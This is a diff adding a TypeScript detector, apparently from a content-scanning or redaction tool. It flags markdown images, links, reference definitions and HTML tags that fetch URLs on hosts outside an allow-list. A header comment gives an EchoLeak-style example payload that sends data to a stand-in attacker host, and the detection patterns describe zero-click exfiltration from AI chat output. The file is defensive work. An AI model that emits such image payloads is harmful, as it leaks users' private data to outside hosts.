@@ -1,0 +1,185 @@
+// EXFIL_LINK: markdown and HTML that makes a client fetch or offer a URL on a host outside an
+// allow-list — the zero-click exfiltration channel (EchoLeak-style `![](https://attacker/?q=<data>)`).
+// Recognised forms: inline images and links `![t](url "title")` / `[t](url)`, reference-style
+// `[t][id]`, `[t][]`, `[id]` with `[id]: url` definitions (the definition line is reported too),
+// autolinks `<https://…>`, HTML `<img src>`, `<a href>…</a>` and other fetching tags (iframe, script,
+// source, video, audio, link, object, embed, form). Optionally bare URLs. A finding spans the whole
+// markup, so redaction with style `remove` strips it. Scores: images and fetching tags 0.9, links
+// 0.6; +0.05 / +0.2 when the URL carries data (query string, fragment, or a long path segment).
+import { compile, matchAll } from '../../core/regex.ts';
+import type { DetectionContext, Detector, Finding } from '../../core/types.ts';
+
+export interface ExfilConfig {
+  readonly id: string;
+  /**
+   * Host globs that may appear: "example.com" matches that host exactly, "*.example.com" any
+   * subdomain (not the apex), "*" everything. Matching is case-insensitive, ports ignored.
+   */
+  readonly allowedHosts?: readonly string[];
+  /** Only report images and fetching tags (zero-click), not clickable links. */
+  readonly imagesOnly?: boolean;
+  /** Also report bare http(s) URLs in text (default false). */
+  readonly bareUrls?: boolean;
+}
+
+const URL_MAX = 1000; // RE2 caps counted repetition at 1000
+const TITLE = `(?:[ \\t]{1,8}(?:"[^"\\n]{0,200}"|'[^'\\n]{0,200}'|\\([^)\\n]{0,200}\\)))?`;
+const INLINE = compile('exfil/inline', `(!?)\\[[^\\]\\n]{0,300}\\]\\([ \\t]{0,8}<?([^\\s()<>]{1,${URL_MAX}})>?${TITLE}[ \\t]{0,8}\\)`);
+const REF_DEF = compile('exfil/refdef', `(?m)^[ ]{0,3}\\[([^\\]\\n]{1,200})\\]:[ \\t]{0,8}<?([^\\s<>]{1,${URL_MAX}})>?${TITLE}[ \\t]*$`);
+const REF_USE = compile('exfil/refuse', `(!?)\\[([^\\]\\n]{0,300})\\](?:\\[([^\\]\\n]{0,200})\\])?`);
+const AUTOLINK = compile('exfil/autolink', `<((?:https?|ftp)://[^\\s<>]{1,${URL_MAX}})>`, 'i');
+const HTML_TAG = compile('exfil/html', `<(img|a|iframe|script|source|video|audio|link|object|embed|form|input|track|image)\\b[^>]{0,1000}>`, 'i');
+const A_CLOSE = compile('exfil/aclose', '^[^<]{0,1000}</a\\s*>', 'i');
+const ATTR = compile('exfil/attr', `\\b(src|href|action|data|poster|srcset|background|formaction)\\s*=\\s*(?:"([^"]{0,${URL_MAX}})"|'([^']{0,${URL_MAX}})'|([^\\s>"']{1,${URL_MAX}}))`, 'i');
+const BARE = compile('exfil/bare', `\\bhttps?://[^\\s<>"'()\\[\\]]{1,${URL_MAX}}`, 'i');
+
+interface HostMatcher {
+  allowed(host: string): boolean;
+}
+
+function hostMatcher(globs: readonly string[]): HostMatcher {
+  const exact = new Set<string>();
+  const suffixes: string[] = [];
+  let any = false;
+  for (const g0 of globs) {
+    const g = g0.trim().toLowerCase();
+    if (g === '*') any = true;
+    else if (g.startsWith('*.')) suffixes.push(g.slice(1));
+    else if (g.length > 0) exact.add(g);
+  }
+  return {
+    allowed(host: string): boolean {
+      if (any) return true;
+      const h = host.toLowerCase();
+      const hh = h.endsWith('.') ? h.slice(0, -1) : h; // fully qualified form "example.com."
+      return exact.has(hh) || suffixes.some((s) => hh.endsWith(s));
+    },
+  };
+}
+
+/** Host of an absolute or protocol-relative URL with a fetchable scheme, or null (relative, data:, mailto: …). */
+export function externalHost(raw: string): { host: string; data: boolean } | null {
+  let s = raw.trim();
+  if (s.startsWith('<') && s.endsWith('>')) s = s.slice(1, -1);
+  if (s.startsWith('//')) s = 'https:' + s;
+  let u: URL;
+  try {
+    u = new URL(s);
+  } catch {
+    return null;
+  }
+  if (u.protocol !== 'http:' && u.protocol !== 'https:' && u.protocol !== 'ftp:' && u.protocol !== 'ws:' && u.protocol !== 'wss:') return null;
+  if (u.hostname.length === 0) return null;
+  const longSegment = u.pathname.split('/').some((seg) => seg.length >= 32);
+  return { host: u.hostname, data: u.search.length > 1 || u.hash.length > 1 || longSegment || u.username.length > 0 };
+}
+
+export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
+  const hosts = hostMatcher(cfg.allowedHosts ?? []);
+  const imagesOnly = cfg.imagesOnly ?? false;
+  const verdict = (url: string): { data: boolean } | null => {
+    const h = externalHost(url);
+    if (h === null || hosts.allowed(h.host)) return null;
+    return { data: h.data };
+  };
+  return {
+    id: cfg.id,
+    maxMatchLength: 2 * URL_MAX,
+    spanwise: true,
+    scan(text: string, _ctx: DetectionContext): Finding[] {
+      if (text.length === 0) return [];
+      const out: Finding[] = [];
+      // Coverage bitmap: a piece of markup already accounted for is not re-read by a later pass.
+      const covered = new Uint8Array(text.length);
+      const overlaps = (s: number, e: number): boolean => {
+        for (let i = s; i < e; i++) if (covered[i] === 1) return true;
+        return false;
+      };
+      const taken = { push: ([s, e]: [number, number]): void => { covered.fill(1, s, e); } };
+      const push = (start: number, end: number, image: boolean, data: boolean, what: string): void => {
+        if (imagesOnly && !image) return;
+        const base = image ? 0.9 : 0.6;
+        const score = Math.round(Math.min(1, base + (data ? (image ? 0.05 : 0.2) : 0)) * 100) / 100;
+        out.push({ detector: cfg.id, type: 'EXFIL_LINK', start, end, score, explanation: `${what}${data ? ', url carries data' : ''}, host not allowed` });
+        taken.push([start, end]);
+      };
+      const hasBracket = text.includes('](') || text.includes(']:') || text.includes('][') || text.includes(']');
+      if (hasBracket) {
+        for (const m of matchAll(INLINE, text)) {
+          const v = verdict(m.groups[1] ?? '');
+          if (v !== null) push(m.start, m.end, m.groups[0] === '!', v.data, m.groups[0] === '!' ? 'markdown image' : 'markdown link');
+          else taken.push([m.start, m.end]); // allowed: its text must not be re-read as a reference
+        }
+        // Reference-style: collect definitions, then usages whose label points at a bad definition.
+        const bad = new Map<string, { data: boolean }>();
+        const defs: { start: number; end: number; label: string; data: boolean }[] = [];
+        if (text.includes(']:')) {
+          for (const m of matchAll(REF_DEF, text)) {
+            const label = (m.groups[0] ?? '').trim().toLowerCase();
+            const v = verdict(m.groups[1] ?? '');
+            if (v === null) continue;
+            bad.set(label, v);
+            defs.push({ start: m.start, end: m.end, label, data: v.data });
+          }
+        }
+        if (bad.size > 0) {
+          const imageLabels = new Set<string>();
+          for (const m of matchAll(REF_USE, text)) {
+            if (overlaps(m.start, m.end) || defs.some((d) => m.start >= d.start && m.start < d.end)) continue;
+            if (text[m.end] === ':' || text[m.end] === '(') continue;
+            const explicit = m.groups[2];
+            const label = (explicit !== undefined && explicit.length > 0 ? explicit : m.groups[1] ?? '').trim().toLowerCase();
+            const v = bad.get(label);
+            if (v === undefined) continue;
+            const image = m.groups[0] === '!';
+            if (image) imageLabels.add(label);
+            push(m.start, m.end, image, v.data, image ? 'markdown reference image' : 'markdown reference link');
+          }
+          for (const d of defs) push(d.start, d.end, imageLabels.has(d.label), d.data, 'markdown reference definition');
+        }
+      }
+      if (text.includes('<')) {
+        for (const m of matchAll(AUTOLINK, text)) {
+          if (overlaps(m.start, m.end)) continue;
+          const v = verdict(m.groups[0] ?? '');
+          if (v !== null) push(m.start, m.end, false, v.data, 'autolink');
+        }
+        for (const m of matchAll(HTML_TAG, text)) {
+          if (overlaps(m.start, m.end)) continue;
+          const tag = (m.groups[0] ?? '').toLowerCase();
+          const tagText = text.slice(m.start, m.end);
+          let worst: { data: boolean } | null = null;
+          for (const a of matchAll(ATTR, tagText)) {
+            const val = a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '';
+            const urls = (a.groups[0] ?? '').toLowerCase() === 'srcset' ? val.split(',').map((x) => x.trim().split(' ')[0]) : [val];
+            for (const u of urls) {
+              const v = verdict(u);
+              if (v !== null && (worst === null || v.data)) worst = v;
+            }
+          }
+          if (worst === null) continue;
+          let end = m.end;
+          if (tag === 'a') {
+            const close = matchAll(A_CLOSE, text.slice(m.end, m.end + 1100));
+            if (close.length > 0) end = m.end + close[0].end;
+          }
+          push(m.start, end, tag !== 'a', worst.data, tag === 'a' ? 'html link' : `html ${tag}`);
+        }
+      }
+      if (cfg.bareUrls) {
+        for (const m of matchAll(BARE, text)) {
+          if (overlaps(m.start, m.end)) continue;
+          let end = m.end;
+          while (end > m.start && '.,;:!?'.includes(text[end - 1])) end--; // sentence punctuation
+          const v = verdict(text.slice(m.start, end));
+          if (v !== null && !imagesOnly) {
+            out.push({ detector: cfg.id, type: 'EXFIL_LINK', start: m.start, end, score: v.data ? 0.5 : 0.3, explanation: `bare url${v.data ? ', url carries data' : ''}, host not allowed` });
+            taken.push([m.start, end]);
+          }
+        }
+      }
+      out.sort((a, b) => a.start - b.start || b.end - a.end);
+      return out;
+    },
+  };
+}
